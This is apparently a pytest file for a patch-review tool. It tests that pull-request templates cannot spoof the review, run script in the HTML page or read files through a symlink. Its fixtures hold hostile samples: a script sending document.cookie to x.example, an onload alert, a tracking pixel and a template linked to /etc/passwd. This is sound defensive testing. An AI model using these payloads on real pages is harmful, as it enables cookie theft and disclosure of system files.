"""What a pull request cannot do to its own review: bring the templates that render it
(``--templates-from``), put script into the HTML page (its Content Security Policy), or make
the Markdown overflow a comment that holds more than the review (``--max-size``)."""

from __future__ import annotations

import re

import pytest

from patchstack.review.render import CSP

from .conftest import Repo
from .test_review import every_classification

HOSTILE_MD = (
    "<!-- patchstack-review -->\n"
    "3 → 3: 3 unchanged. Nothing to review.\n"
    "cc @security-team\n"
    "![](https://tracker.example/pixel.png)\n"
)


@pytest.fixture(scope="module")
def pull_request(tmp_path_factory) -> tuple[Repo, str, str]:
    """A series change (every classification) whose head also brings its own templates."""
    repo, _old, _new = every_classification(tmp_path_factory.mktemp("trust"))
    base = repo.git("rev-parse", "HEAD~1").strip()
    repo.write(".patchstack/templates/review.md", HOSTILE_MD)
    repo.write(".patchstack/templates/review.html", "<script>alert(1)</script>\n")
    repo.git("add", "-A", ".patchstack")
    repo.git("commit", "-q", "-m", "the pull request's own templates")
    return repo, base, repo.head()


def test_templates_from_the_base_never_run_the_pull_requests(pull_request) -> None:
    repo, base, head = pull_request
    # The work tree is the pull request's head: its template is what renders by default.
    plain = repo.ps("review", base, head, "--format", "markdown").stdout
    assert plain == HOSTILE_MD
    safe = repo.ps("review", base, head, "--format", "markdown", "--templates-from", base).stdout
    assert "Nothing to review" not in safe and "tracker.example" not in safe
    assert "`theta.patch`" in safe and "added" in safe
    html = repo.ps("review", base, head, "--format", "html", "--templates-from", base).stdout
    assert "<script>" not in html and "theta.patch" in html


def test_templates_from_a_revision_that_has_them(pull_request, tmp_path) -> None:
    repo, base, head = pull_request
    # The base's own template is the one that runs (and may extend the shipped one).
    repo.git("checkout", "-q", "-b", "base-templates", base)
    repo.write(
        ".patchstack/templates/review.md",
        '{% extends "patchstack/review.md" %}{% block header %}BASE HEADER\n{% endblock %}',
    )
    repo.git("add", "-A", ".patchstack")
    repo.git("commit", "-q", "-m", "the base's templates")
    trusted = repo.head()
    repo.git("checkout", "-q", head)
    out = repo.ps("review", base, head, "--format", "markdown", "--templates-from", trusted)
    assert out.stdout.startswith("<!-- patchstack-review -->\nBASE HEADER\n")
    assert "`theta.patch`" in out.stdout
    # A link among a revision's templates is refused, as in a folder.
    repo.git("checkout", "-q", trusted)
    (repo.path / ".patchstack" / "templates" / "review.md").unlink()
    (repo.path / ".patchstack" / "templates" / "review.md").symlink_to("/etc/passwd")
    repo.git("add", "-A", ".patchstack")
    repo.git("commit", "-q", "-m", "a link")
    linked = repo.head()
    repo.git("checkout", "-q", head)
    result = repo.ps("review", base, head, "--templates-from", linked, code=2)
    assert f"{linked}:.patchstack/templates/review.md: the template is a symbolic link" in (
        result.stderr
    )
    result = repo.ps("review", base, head, "--templates-from", "no-such-rev", code=2)
    assert "--templates-from: 'no-such-rev' is not a revision" in result.stderr


def test_a_template_cannot_make_the_html_page_run_script(pull_request, tmp_path) -> None:
    repo, base, head = pull_request
    folder = tmp_path / "templates"
    folder.mkdir()
    (folder / "review.html").write_text(
        "<!doctype html><html><head><script>fetch('https://x.example/'+document.cookie)"
        "</script></head><body onload=alert(1)><img src=https://tracker.example/p.png>"
        "</body></html>\n"
    )
    page = repo.ps("review", base, head, "--format", "html", "--templates", str(folder)).stdout
    # The policy is the first thing after the one doctype, before anything the template wrote.
    policy = f'<meta http-equiv="Content-Security-Policy" content="{CSP}">'
    assert page.startswith('<!DOCTYPE html>\n<meta charset="utf-8">\n' + policy + "\n<html>")
    assert len(re.findall("<!doctype", page, re.I)) == 1
    rules = dict(r.strip().split(" ", 1) for r in CSP.split(";"))
    assert rules["default-src"] == "'none'" and "script-src" not in rules
    assert rules["img-src"] == "data:" and "unsafe-inline" not in rules["default-src"]
    # The shipped page and show's are contained too.
    assert policy in repo.ps("review", base, head, "--format", "html").stdout.split("\n")[2]
    show = repo.ps("show", "alpha", "--format", "html", "--rev", head).stdout
    assert show.startswith('<!DOCTYPE html>\n<meta charset="utf-8">\n' + policy)


def test_max_size_leaves_room_in_the_comment(pull_request) -> None:
    repo, base, head = pull_request
    args = ("review", base, head, "--format", "markdown", "--templates-from", base)
    full = repo.ps(*args).stdout
    small = repo.ps(*args, "--max-size", "1500").stdout
    assert len(small.encode()) < 1500 < len(full.encode())
    assert "`theta.patch`" in small
    result = repo.ps(*args, "--max-size", "10", code=2)
    assert "--max-size" in result.stderr
